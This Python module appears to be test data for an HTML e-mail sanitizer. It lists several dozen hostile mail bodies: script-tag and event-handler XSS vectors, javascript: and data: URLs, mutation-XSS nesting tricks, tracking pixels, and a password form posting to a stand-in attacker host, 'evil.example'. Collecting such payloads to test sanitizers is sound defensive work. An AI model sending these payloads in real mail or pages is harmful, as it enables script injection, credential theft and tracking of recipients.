"""What hostile mail tries, each with `EVIL` where an address of the attacker stands."""

from __future__ import annotations

EVIL = "http://evil.example"

HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=EVIL/a.js></sCrIpT>",
    "<script\x00>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<body onload=alert(1)>hello</body>",
    "<div onmouseover='alert(1)' style='position:fixed;inset:0'>over</div>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>click</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<div style=\"background:url('EVIL/pixel')\">x</div>",
    '<div style="background-image:u\\72l(EVIL/pixel)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="color:red;-moz-binding:url(EVIL/x.xml#a)">x</div>',
    "<p style=\"list-style-image:image-set('EVIL/pixel' 1x)\">x</p>",
    "<p style=\"font-family:'x';src:url(EVIL/f.woff)/*\">x</p>",
    "<style>@import 'EVIL/a.css'; body{background:url(EVIL/b)}</style>text",
    "<link rel=stylesheet href=EVIL/a.css>",
    "<meta http-equiv=refresh content='0;url=EVIL/go'>",
    "<base href='EVIL/'><a href='path'>x</a><img src='pixel'>",
    "<form action=EVIL/steal method=post><input name=p type=password><button>Sign in</button></form>",
    "<isindex action=EVIL/steal prompt=password>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<iframe src=EVIL/frame></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=EVIL/o.swf><embed src=EVIL/e.swf></object><applet code=x></applet>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<img src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src=EVIL/pixel.gif width=1 height=1><table background=EVIL/bg><tr><td background=EVIL/c>x</table>",
    "<img srcset='EVIL/a 1x, EVIL/b 2x' src=//evil.example/c><picture><source srcset=EVIL/d><img></picture>",
    "<video src=EVIL/v poster=EVIL/p autoplay></video><audio src=EVIL/a autoplay></audio>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<select><template><img src=x onerror=alert(1)></template></select><plaintext><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">-->',
    "<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href='EVIL/x.css'?>",
    "<a href=x id=cookie name=location class=note target=_top rel=opener ping=EVIL/p>x</a>",
    '<p title=\'"><script>alert(1)</script>\'>x</p><p title="&quot;&gt;&lt;script&gt;alert(1)">y</p>',
)


def hostile_mails(evil: str = EVIL) -> list[str]:
    """The mails, with the attacker at `evil`."""
    return [mail.replace("EVIL", evil) for mail in HOSTILE]
